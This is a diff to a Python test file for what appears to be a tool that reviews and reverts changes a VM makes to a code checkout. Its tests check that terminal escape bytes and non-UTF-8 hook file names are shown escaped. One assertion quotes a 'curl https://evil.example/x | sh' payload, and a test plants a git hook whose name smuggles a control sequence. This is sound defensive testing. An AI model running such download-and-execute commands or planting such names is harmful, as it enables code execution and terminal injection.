@@ -454,3 +454,18 @@ def test_the_review_shows_a_vm_written_escape_sequence_escaped(fake: FakeRuntime
     assert "+curl https://evil.example/x | sh\\x1b[2K\\x0dexport B=2" in said
     assert "\x1b" not in said and "\r" not in said
     assert (checkout / ".envrc").read_text() == "export A=1\n"
+
+
+def test_a_hook_whose_name_is_not_utf8_is_named_by_its_bytes(fake: FakeRuntime, checkout: Path) -> None:
+    app = app_on(fake, checkout)
+    review(app, vm_may_write_after=True)
+    hooks = os.fsencode(checkout / ".git" / "hooks")
+    with open(hooks + b"/pre-commit\x9b2J", "w") as hook:  # 0x9b: a one-byte control sequence introducer
+        hook.write(HOOK)
+
+    assert review(app, vm_may_write_after=False).reverted
+
+    said = messages(app)
+    assert ".git/hooks/pre-commit\\x9b2J: added (mode " in said
+    assert not any(0xD800 <= ord(char) <= 0xDFFF for char in said), "a raw byte would reach the terminal"
+    assert not os.path.exists(hooks + b"/pre-commit\x9b2J")
